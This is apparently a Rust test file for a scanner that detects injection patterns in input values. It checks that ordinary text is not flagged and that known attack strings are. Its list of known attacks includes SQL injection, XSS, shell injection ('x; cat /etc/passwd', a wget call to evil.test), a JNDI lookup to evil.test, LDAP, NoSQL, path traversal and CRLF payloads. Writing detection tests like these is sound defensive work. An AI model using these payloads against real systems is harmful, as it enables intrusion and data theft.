//! Tests of the grammar scanners: every pattern found where it starts, and the structures of known values.

use super::*;

fn has(v: &str, bit: u32) -> bool {
    structures(v) & bit != 0
}

#[test]
fn every_delimited_pattern_is_found_where_it_starts() {
    for (p, bit) in DELIMITED {
        assert_eq!(delimited(p) & bit, *bit, "{p}");
        assert_eq!(delimited(&format!("x {p} y")) & bit, *bit, "{p}");
    }
}

#[test]
fn a_lookup_cut_inside_a_character_is_scanned() {
    // The 48 bytes after `${` end inside the three bytes of U+200B.
    let v = format!("${{{}\u{200b}:x}}", "a".repeat(46));
    assert_eq!(structures(&v) & LOOKUP, 0);
    let v = format!("${{{}:\u{200b}}}", "a".repeat(45));
    assert_ne!(structures(&v) & LOOKUP, 0);
}

#[test]
fn ordinary_text_has_no_structure() {
    for v in [
        "kids' bike",
        "rock & roll poster",
        "don't starve board game",
        "it's a gift: don't open",
        "Tom & Jerry's flat, 3rd floor",
        "C++ & Rust developer (he/him)",
        "I <3 cycling and coffee",
        "coffee first, questions later...",
        "100% agree -- well said",
        "not sure, but try clearing the cache; then log in again",
        "dog & cat food",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "session=0af3; theme=dark",
        "see @mods' note above",
        "kids' or adults' bikes",
        "Q&A thread is here",
        "café table",
    ] {
        assert_eq!(
            structures(v),
            0,
            "{v}: {:?}",
            names(structures(v)).collect::<Vec<_>>()
        );
    }
}

#[test]
fn injections_have_their_structure() {
    let cases: &[(&str, u32)] = &[
        ("x' or 'a'='a", SQL_QUOTE_CONDITION),
        ("anna' or 'x", SQL_QUOTE_CONDITION),
        ("' or ''='", SQL_QUOTE_CONDITION),
        ("shoes' and sleep(5) and 'a' like 'a", SQL_QUOTE_CONDITION),
        ("x') or ('a' like 'a", SQL_QUOTE_CONDITION),
        ("1' ORDER BY 3--+", SQL_QUOTE_CONDITION),
        ("admin'--", SQL_QUOTE_COMMENT),
        ("shoes union select password from users", SQL_UNION_SELECT),
        ("1; drop table orders", SQL_STACKED),
        ("1/**/UNION/**/SELECT/**/1,2", SQL_COMMENT_BLOCK),
        ("1 or 1=1", SQL_TAUTOLOGY),
        ("<script>alert(1)</script>", HTML_TAG | JS_SINK),
        ("<b onmouseover=alert(1)>x</b>", HTML_HANDLER),
        ("javascript:alert(1)", JS_SCHEME),
        ("x; cat /etc/passwd", SHELL_COMMAND | PATH_SYSTEM),
        ("a&&id", SHELL_COMMAND),
        ("x&wget evil.test&", SHELL_COMMAND),
        ("$(id)", SHELL_SUBSTITUTION),
        ("`id`", SHELL_SUBSTITUTION),
        ("{{7*7}}", TEMPLATE),
        ("${jndi:ldap://evil.test/a}", LOOKUP),
        ("*)(uid=*))(|(uid=*", LDAP_FILTER),
        ("../../etc/passwd", PATH_PARENT),
        ("..", PATH_PARENT),
        ("{\"$ne\": null}", NOSQL_OPERATOR),
        ("%0d%0aLocation: x", ENCODED_LINE_BREAK),
    ];
    for (v, bit) in cases {
        assert!(
            has(v, *bit),
            "{v}: {:?}",
            names(structures(v)).collect::<Vec<_>>()
        );
    }
}
